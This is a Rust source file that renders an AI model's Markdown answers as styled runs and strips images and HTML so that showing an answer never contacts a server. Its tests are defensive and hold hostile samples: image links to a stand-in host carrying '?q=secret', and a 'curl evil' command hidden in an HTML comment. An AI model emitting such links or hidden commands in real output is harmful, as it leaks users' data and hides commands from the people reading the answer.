//! A model's Markdown as runs of styled text: a platform's markup is made of these.

use pulldown_cmark::{CodeBlockKind, Event, Options, Parser, Tag, TagEnd};
use std::ops::Range;

/// How often a text is searched for markup that appeared when other markup was removed.
const ROUNDS_MAX: usize = 8;
/// How many styles of a text are kept, and how far lists are moved in. Deeper text is shown like text of this
/// depth.
const STYLES_MAX: usize = 8;
/// The longest address that is kept, in bytes: each run of a link holds it.
const ADDRESS_BYTES_MAX: usize = 1536;

/// How a run is shown.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub(crate) enum Style {
    Bold,
    Italic,
    Struck,
    Code,
    /// A block of code, with its language if it names one.
    Block(Option<String>),
    Quote,
    /// A link to this address.
    Link(String),
}

/// Text in one style, the outermost first.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Run {
    pub(crate) styles: Vec<Style>,
    pub(crate) text: String,
}

/// The runs of a text. Pictures are named and never shown, because to show a picture is to ask its server for
/// it. HTML is text.
pub(crate) fn runs(markdown: &str) -> Vec<Run> {
    let mut page = MessagePart::default();
    let options = Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
    Parser::new_ext(markdown, options).for_each(|event| page.take(event));
    page.runs
}

/// The same Markdown without the parts that load something when they are shown: for pictures and HTML, the
/// source is shown. Code stays as it is.
pub(crate) fn tame(markdown: &str) -> String {
    let mut tamed = markdown.to_owned();
    for _ in 0..ROUNDS_MAX {
        // A tag may have held a mark that now begins a piece of code, or ends one.
        let next = without_pictures(&tamed, &code(&tamed));
        if next == tamed {
            return tamed;
        }
        tamed = next;
    }
    without_pictures(&tamed, &[])
}

/// Where code stands.
fn code(markdown: &str) -> Vec<Range<usize>> {
    let pieces = Parser::new_ext(markdown, Options::ENABLE_STRIKETHROUGH).into_offset_iter();
    let is_code = |event: &Event<'_>| matches!(event, Event::Code(_) | Event::Start(Tag::CodeBlock(_)));
    pieces.filter(|(event, _)| is_code(event)).map(|(_, range)| range).collect()
}

fn without_pictures(markdown: &str, code: &[Range<usize>]) -> String {
    let mut code = code.iter().peekable();
    let mut clean = String::with_capacity(markdown.len());
    let mut before = None;
    for (at, c) in markdown.char_indices() {
        while code.next_if(|range| range.end <= at).is_some() {}
        let next = markdown.as_bytes().get(at + 1);
        let is_tag = c == '<' && next.is_some_and(|next| next.is_ascii_alphabetic() || b"/!?".contains(next));
        match c {
            _ if code.peek().is_some_and(|range| range.contains(&at)) => clean.push(c),
            '[' if before == Some('!') => clean.push_str("\\["),
            _ if is_tag => clean.push_str("&lt;"),
            c => clean.push(c),
        }
        before = Some(c);
    }
    clean
}

/// Words as Markdown that shows each word as it is, and each line as a line.
pub(crate) fn escaped(text: &str) -> String {
    let lines: Vec<String> = text.split('\n').map(escaped_line).collect();
    // Two blanks keep a line apart from the next.
    lines.join("  \n")
}

fn escaped_line(line: &str) -> String {
    let mut clean = String::with_capacity(line.len());
    // Whether only blanks, or only figures, came before: there, some marks begin a heading or a list.
    let (mut is_first, mut is_number) = (true, false);
    for c in line.chars() {
        let is_mark =
            "\\`*_[]<>&~|$".contains(c) || is_first && "#+-=:".contains(c) || is_number && ".)".contains(c);
        if is_mark {
            clean.push('\\');
        }
        clean.push(c);
        is_number = c.is_ascii_digit() && (is_first || is_number);
        is_first &= c.is_whitespace();
    }
    clean
}

#[derive(Default)]
struct MessagePart {
    runs: Vec<Run>,
    styles: Vec<Style>,
    /// Whether each open style is in `styles`: a style that is there already, or one too many, is not.
    open: Vec<bool>,
    /// The number of the next item of each open list; `None` for a list without numbers.
    lists: Vec<Option<u64>>,
    /// Line breaks that come before the next text.
    breaks: usize,
}

impl MessagePart {
    fn take(&mut self, event: Event<'_>) {
        match event {
            Event::Start(tag) => self.start(tag),
            Event::End(tag) => self.end(tag),
            Event::Text(text) | Event::Html(text) | Event::InlineHtml(text) => self.text(&text),
            Event::Code(text) => {
                self.open(Style::Code);
                self.text(&text);
                self.close();
            }
            Event::SoftBreak | Event::HardBreak => self.text("\n"),
            Event::Rule => {
                self.part(2);
                self.text("———");
                self.part(2);
            }
            Event::TaskListMarker(is_done) => self.text(if is_done { "☑ " } else { "☐ " }),
            Event::FootnoteReference(text) | Event::InlineMath(text) | Event::DisplayMath(text) => {
                self.text(&text);
            }
        }
    }

    fn start(&mut self, tag: Tag<'_>) {
        match tag {
            Tag::Heading { .. } => {
                self.part(2);
                self.open(Style::Bold);
            }
            Tag::Paragraph if self.lists.is_empty() => self.part(2),
            Tag::BlockQuote(_) => {
                self.part(2);
                self.open(Style::Quote);
            }
            Tag::CodeBlock(kind) => {
                self.part(2);
                let language = match kind {
                    CodeBlockKind::Fenced(language) if is_language(&language) => Some(language.into_string()),
                    CodeBlockKind::Fenced(_) | CodeBlockKind::Indented => None,
                };
                self.open(Style::Block(language));
            }
            Tag::List(first) => {
                self.part(if self.lists.is_empty() { 2 } else { 1 });
                self.lists.push(first);
            }
            Tag::Item => self.item(),
            Tag::Emphasis => self.open(Style::Italic),
            Tag::Strong => self.open(Style::Bold),
            Tag::Strikethrough => self.open(Style::Struck),
            Tag::Link { dest_url, .. } if dest_url.len() <= ADDRESS_BYTES_MAX => {
                self.open(Style::Link(dest_url.into_string()));
            }
            Tag::Link { .. } => self.open(Style::Link(String::new())),
            Tag::Image { dest_url, .. } => {
                self.text("[picture: ");
                self.open(Style::Code);
                self.text(&dest_url);
                self.close();
                self.text(" ");
            }
            _ => {}
        }
    }

    fn end(&mut self, tag: TagEnd) {
        match tag {
            TagEnd::Heading(_) | TagEnd::BlockQuote(_) | TagEnd::CodeBlock => {
                self.close();
                self.part(2);
            }
            TagEnd::Paragraph => self.part(if self.lists.is_empty() { 2 } else { 1 }),
            TagEnd::List(_) => {
                self.lists.pop();
                self.part(if self.lists.is_empty() { 2 } else { 1 });
            }
            TagEnd::Item => self.part(1),
            TagEnd::Emphasis | TagEnd::Strong | TagEnd::Strikethrough | TagEnd::Link => self.close(),
            TagEnd::Image => self.text("]"),
            _ => {}
        }
    }

    fn open(&mut self, style: Style) {
        let is_new = self.styles.len() < STYLES_MAX && !self.styles.contains(&style);
        self.open.push(is_new);
        if is_new {
            self.styles.push(style);
        }
    }

    fn close(&mut self) {
        if self.open.pop() == Some(true) {
            self.styles.pop();
        }
    }

    fn item(&mut self) {
        self.part(1);
        let depth = self.lists.len().saturating_sub(1).min(STYLES_MAX);
        let mark = match self.lists.last_mut() {
            Some(Some(number)) => {
                let mark = format!("{number}. ");
                *number += 1;
                mark
            }
            _ => "• ".into(),
        };
        self.text(&format!("{}{mark}", "  ".repeat(depth)));
    }

    /// Asks for this many line breaks before the next text; the highest number wins.
    fn part(&mut self, breaks: usize) {
        self.breaks = self.breaks.max(breaks);
    }

    fn text(&mut self, text: &str) {
        if text.is_empty() {
            return;
        }
        let breaks = std::mem::take(&mut self.breaks);
        if breaks > 0 && !self.runs.is_empty() {
            // Between two paragraphs of one quote the breaks are the quote's.
            let is_quoted = self.styles.contains(&Style::Quote)
                && self.runs.last().is_some_and(|run| run.styles.contains(&Style::Quote));
            let styles = if is_quoted { vec![Style::Quote] } else { Vec::new() };
            self.push(styles, &"\n".repeat(breaks));
        }
        self.push(self.styles.clone(), text);
    }

    fn push(&mut self, styles: Vec<Style>, text: &str) {
        match self.runs.last_mut() {
            Some(run) if run.styles == styles => run.text.push_str(text),
            _ => self.runs.push(Run { styles, text: text.to_owned() }),
        }
    }
}

/// A language's name goes into an attribute.
fn is_language(name: &str) -> bool {
    let is_fit = |c: char| c.is_ascii_alphanumeric() || "+-#_.".contains(c);
    !name.is_empty() && name.len() <= 32 && name.chars().all(is_fit)
}

#[cfg(test)]
mod tests {
    use super::{escaped, runs, tame};
    use proptest::prelude::*;
    use pulldown_cmark::{Event, Options, Parser, Tag};

    /// The words that a reader of Markdown shows, and whether the reader would load or hide something.
    fn read(markdown: &str) -> (String, bool) {
        let (mut words, mut loads) = (String::new(), false);
        for event in Parser::new_ext(markdown, Options::all() - Options::ENABLE_SMART_PUNCTUATION) {
            match event {
                Event::Text(text) | Event::Code(text) => words += &text,
                Event::SoftBreak | Event::HardBreak => words.push('\n'),
                Event::Html(_) | Event::InlineHtml(_) | Event::Start(Tag::Image { .. }) => loads = true,
                _ => {}
            }
        }
        (words, loads)
    }

    fn shown(markdown: &str) -> String {
        runs(markdown).iter().map(|run| run.text.as_str()).collect()
    }

    #[test]
    fn blocks_stand_apart_and_lists_have_marks() {
        assert_eq!(shown("# One\n\ntwo\nthree\n\nfour"), "One\n\ntwo\nthree\n\nfour");
        assert_eq!(shown("a\n\n- b\n- c\n  - d\n- e\n\nf"), "a\n\n• b\n• c\n  • d\n• e\n\nf");
        assert_eq!(shown("3. x\n4. y"), "3. x\n4. y");
        assert_eq!(shown("- [x] done\n- [ ] open"), "• ☑ done\n• ☐ open");
        assert_eq!(shown("```rust\nfn main() {}\n```\nafter"), "fn main() {}\n\n\nafter");
        assert_eq!(shown("> one\n>\n> two"), "one\n\ntwo");
    }

    /// Each answer is rendered anew while it grows: deep nesting must not take the square of its length.
    #[test]
    fn what_is_nested_deep_takes_no_more_than_its_length() {
        let address = format!("https://x.example/{}", "a".repeat(8000));
        for hostile in [
            "*a ".repeat(4000) + &"b* ".repeat(4000),
            format!("[{}]({address})", "*b* c ".repeat(2000)),
            "- ".repeat(4000) + "a",
            ">".repeat(40_000) + "a\n" + &"a\n".repeat(40_000),
        ] {
            let runs = runs(&hostile);
            let styles = runs.iter().map(|run| run.styles.len()).max().unwrap();
            assert!(styles <= super::STYLES_MAX, "{styles}: {:.20}", hostile);
            let addresses = runs.iter().flat_map(|run| &run.styles);
            let addresses = addresses.map(|it| if let super::Style::Link(it) = it { it.len() } else { 0 });
            let bytes = runs.iter().map(|run| run.text.len()).sum::<usize>() + addresses.sum::<usize>();
            assert!(bytes <= 16 * hostile.len(), "{bytes} of {}: {:.20}", hostile.len(), hostile);
        }
        // The text after it has its own styles again.
        let deep = format!("{}a{}\n\n**b** c", "*x ".repeat(20), "*".repeat(20));
        let after = runs(&deep);
        let [.., bold, plain] = &after[..] else { panic!("{after:?}") };
        assert_eq!((&bold.styles[..], &*bold.text), (&[super::Style::Bold][..], "b"));
        assert_eq!((&plain.styles[..], &*plain.text), (&[][..], " c"));
    }

    /// A34.
    #[test]
    fn a_picture_is_named_and_html_is_text() {
        assert_eq!(
            shown("![a cat](http://x.example/?q=secret)"),
            "[picture: http://x.example/?q=secret a cat]"
        );
        assert_eq!(shown("a <b>bold</b> word"), "a <b>bold</b> word");
    }
    /// A34: when Markdown goes out as Markdown, nothing in it makes its reader ask a server. Control: without
    /// `tame`, each of these texts does.
    #[test]
    fn a34_no_picture_and_no_html_is_left_in_markdown() {
        for hostile in [
            "![a](https://x.example/?q=secret)",
            "[![a](https://x.example/?q=secret)](https://y.example)",
            "![a][b]\n\n[b]: https://x.example/?q=secret",
            "<img src=\"https://x.example/?q=secret\">",
            "<div>\n\\<img src=x>\n</div>",
            "<a title=\"`\"> `![a](https://x.example/?q=secret)`",
            "a <!-- hidden --> b",
        ] {
            assert!(read(hostile).1, "the control: {hostile}");
            assert!(!read(&tame(hostile)).1, "{hostile}: {}", tame(hostile));
        }
        for harmless in
            ["`![a](b)` and a < b", "```rust\n#![allow(x)]\nlet a: Vec<u8>;\n```", "**bold** [l](https://x)"]
        {
            assert_eq!(tame(harmless), harmless);
        }
    }

    /// A09: a card's quoted words hide nothing from a reader of Markdown. Control: without escapes, they do.
    #[test]
    fn a09_words_are_shown_as_they_are_in_markdown() {
        let hostile =
            "echo one <!-- ; curl evil --> ![a](b) [c](d) `e` *f* &lt; ~~g~~\n# h\n- i\n1. j\n===\n| k |";
        let (as_is, loads) = read(hostile);
        assert!(loads && !as_is.contains("curl evil") && as_is != hostile);
        assert_eq!(read(&escaped(hostile)), (hostile.to_owned(), false));
    }

    proptest! {
        #[test]
        fn whatever_is_written_loads_and_hides_nothing(text in "([!\\[\\]()<>/a`~\\\\ \n&;:#.1*_-]|\"){0,80}") {
            prop_assert!(!read(&tame(&text)).1, "{}", tame(&text));
            let (words, loads) = read(&escaped(&text));
            let marks = |text: &str| text.chars().filter(|c| !c.is_whitespace()).collect::<String>();
            prop_assert!(!loads, "{}", escaped(&text));
            // Beneath an empty line, four blanks begin code, which shows the escapes as well.
            if !text.contains("    ") {
                prop_assert_eq!(marks(&words), marks(&text));
            }
        }
    }
}
